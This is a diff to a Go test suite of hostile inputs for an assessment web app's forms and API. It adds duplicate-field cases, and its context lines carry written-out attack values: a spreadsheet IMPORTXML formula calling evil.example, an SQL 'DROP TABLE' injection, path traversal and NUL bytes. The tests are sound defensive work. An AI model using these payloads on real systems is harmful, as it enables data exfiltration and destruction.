@@ -362,6 +362,11 @@ func TestHostileInputCatalogue(t *testing.T) {
 		// Facilitator workspace forms.
 		{name: "new assessment: formula as title", via: ownerB, req: formRequest("/assessments", newAssessment("title", `=IMPORTXML("http://evil.example","//a")`)), status: 422, page: "field.formula"},
 		{name: "new assessment: SQL in the threshold", via: ownerB, req: formRequest("/assessments", newAssessment("threshold", "3; DROP TABLE assessments")), status: 422, page: "field.threshold_invalid"},
+		{name: "new assessment: team given twice", via: ownerB, req: formRequest("/assessments", func() url.Values {
+			v := newAssessment("team", "Ward 9")
+			v.Add("team", "Ward 10")
+			return v
+		}()), status: 422, page: "field.duplicate"},
 		{name: "new assessment: traversal as language", via: ownerB, req: formRequest("/assessments", newAssessment("language", "../en")), status: 422, page: "field.language"},
 		{name: "new assessment: NUL in the team", via: ownerB, req: formRequest("/assessments", newAssessment("team", "Ward\x009")), status: 422, page: "field.control"},
 		{name: "new assessment: expired session", via: expiredB1, req: formRequest("/assessments", newAssessment("_csrf", expiredCSRF1)), status: 403, page: "error.sign_in_required.heading",
@@ -405,6 +410,8 @@ func TestHostileInputCatalogue(t *testing.T) {
 		{name: "API: NUL in the bearer token", req: withBearer(hostileRequest("POST", "/api/v1/assessments/"+id+"/close", "", nil), live+"\x00"), status: 401, code: "unauthorized"},
 		{name: "API: formula as title", req: withBearer(jsonRequest("POST", "/api/v1/assessments", apiAssessment(func(m map[string]any) { m["title"] = "+SUM(1;2)" })), live), status: 422, code: "validation_failed",
 			fields: map[string]string{"title": "formula"}, ignore: lastUse},
+		{name: "API: title given twice", req: withBearer(jsonRequest("POST", "/api/v1/assessments", []byte(`{"title":"First","team":"Ward 9","Title":"Second"}`)), live), status: 422, code: "validation_failed",
+			fields: map[string]string{"title": "duplicate"}, ignore: lastUse},
 		{name: "API: NUL in the team", req: withBearer(jsonRequest("POST", "/api/v1/assessments", apiAssessment(func(m map[string]any) { m["team"] = "Ward\x009" })), live), status: 422, code: "validation_failed",
 			fields: map[string]string{"team": "control"}, ignore: lastUse},
 		{name: "API: script tag as language", req: withBearer(jsonRequest("POST", "/api/v1/assessments", apiAssessment(func(m map[string]any) { m["language"] = script })), live), status: 422, code: "validation_failed",
